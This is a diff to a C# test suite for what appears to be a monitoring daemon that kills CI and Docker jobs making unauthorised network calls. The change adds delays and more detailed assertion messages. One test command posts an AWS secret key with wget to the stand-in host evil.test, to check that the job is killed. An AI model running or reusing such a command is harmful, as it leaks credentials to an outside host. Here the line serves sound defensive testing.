@@ -57,7 +57,8 @@ public sealed class DockerTests(NetworkLabFixture lab, DockerLabFixture docker) 
         using var job = BuildJob.Start(Lab, DockerRunUpload("upload") + "; echo build finished");
         var result = await job.WaitAsync();
 
-        Assert.Equal(137, result.ExitCode);
+        Assert.True(result.ExitCode == 137,
+            $"exit {result.ExitCode}\n{result.StandardOutput}\n{result.StandardError}\n{string.Join("\n", daemon.AlertRecords())}\n{daemon.Output}");
         Assert.DoesNotContain("build finished", result.StandardOutput);
         // Killed at its DNS query for evil.test (through prevent mode's forwarder in the container's namespace) or at
         // its connect, whichever the container reached first.
@@ -130,7 +131,8 @@ public sealed class DockerTests(NetworkLabFixture lab, DockerLabFixture docker) 
     public async Task A_marked_container_job_in_its_own_namespaces_is_its_own_job_and_is_killed_in_kill_mode()
     {
         // The runner starts the container (GitLab's docker executor, a GitHub container: job): the job's markers are in
-        // the container's environment, not in the process that ran docker.
+        // the container's environment, not in the process that ran docker. Its first step comes a moment after the
+        // container starts, as a runner's steps do: the job is held from its placement (docs/operations.md).
         await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
         await using var daemon = await DaemonProcess.StartAsync(Setup("kill"));
         var runId = Random.Shared.Next(100_000, 999_999).ToString(System.Globalization.CultureInfo.InvariantCulture);
@@ -138,9 +140,10 @@ public sealed class DockerTests(NetworkLabFixture lab, DockerLabFixture docker) 
         var result = await Docker.CliAsync("run", "--rm", "--network", DockerLab.Network, "--dns", NetworkLab.ResolverAddress.ToString(),
             "-e", "GITHUB_ACTIONS=true", "-e", $"GITHUB_RUN_ID={runId}", "-e", "GITHUB_RUN_ATTEMPT=1", "-e", "GITHUB_JOB=build",
             "-e", "GITHUB_REPOSITORY=acme/app", "-e", $"AWS_SECRET_ACCESS_KEY={BuildJob.Secret}", DockerLab.Image,
-            "sh", "-c", "wget -q -O /dev/null http://registry.test/ok && echo allowed-ok; wget -q -O /dev/null --post-data \"$AWS_SECRET_ACCESS_KEY\" http://evil.test/marked; echo after");
+            "sh", "-c", "sleep 1; wget -q -O /dev/null http://registry.test/ok && echo allowed-ok; wget -q -O /dev/null --post-data \"$AWS_SECRET_ACCESS_KEY\" http://evil.test/marked; echo after");
 
-        Assert.Contains("allowed-ok", result.StandardOutput);
+        Assert.True(result.StandardOutput.Contains("allowed-ok", StringComparison.Ordinal),
+            $"exit {result.ExitCode}\n{result.StandardOutput}\n{result.StandardError}\n{string.Join("\n", daemon.AlertRecords())}\n{daemon.Output}");
         Assert.DoesNotContain("after", result.StandardOutput);
         Assert.Equal(137, result.ExitCode);
         var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == $"github-{runId}-1-build" && Str(a, "action") == "killed");
